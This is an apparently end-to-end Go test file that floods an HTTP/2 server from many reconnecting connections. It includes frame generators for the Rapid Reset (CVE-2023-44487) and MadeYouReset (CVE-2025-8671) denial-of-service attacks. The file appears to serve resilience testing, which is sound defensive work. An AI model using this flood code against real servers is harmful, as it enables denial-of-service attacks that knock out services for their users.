//go:build e2e

package e2e

import (
	"context"
	"io"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// Floods of HTTP/2 frames.

// flood writes opening and then what next returns, as fast as it can, from n
// connections, each of which is opened anew when it is closed. What the server
// sends is read or, if deaf is set, never. It returns how often next was called.
func flood(t *testing.T, v victim, n int, deaf bool, opening string, next func(round int) string) int {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), siegeTime)
	defer cancel()
	var (
		attackers sync.WaitGroup
		rounds    atomic.Int64
	)
	attack := func() {
		c, err := v.dial(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		if !deaf {
			go io.Copy(io.Discard, c)
		}
		_, err = io.WriteString(c, opening)
		for round := 0; err == nil; round++ {
			_, err = io.WriteString(c, next(round))
			rounds.Add(1)
		}
	}
	for range n {
		attackers.Go(func() {
			for ctx.Err() == nil {
				attack()
			}
		})
	}
	attackers.Wait()
	return int(rounds.Load())
}

// again is a flood of the same.
func again(frame string, times int) func(int) string {
	frames := strings.Repeat(frame, times)
	return func(int) string { return frames }
}

// rapidReset asks and takes it back (CVE-2023-44487).
func rapidReset(round int) string {
	const batch = 100
	var pairs strings.Builder
	for n := range batch {
		stream := uint32(round*batch+n)*2 + 1
		pairs.WriteString(frame(frameHeaders, endStream|endHeaders, stream, fields))
		pairs.WriteString(frame(frameReset, 0, stream, "\x00\x00\x00\x08")) // CANCEL
	}
	return pairs.String()
}

// madeReset asks, and does what the server must answer with a RST_STREAM
// (CVE-2025-8671).
func madeReset(round int) string {
	const batch = 100
	var pairs strings.Builder
	for n := range batch {
		stream := uint32(round*batch+n)*2 + 1
		pairs.WriteString(frame(frameHeaders, endStream|endHeaders, stream, fields))
		pairs.WriteString(frame(frameWindowUpdate, 0, stream, "\x00\x00\x00\x00"))
	}
	return pairs.String()
}
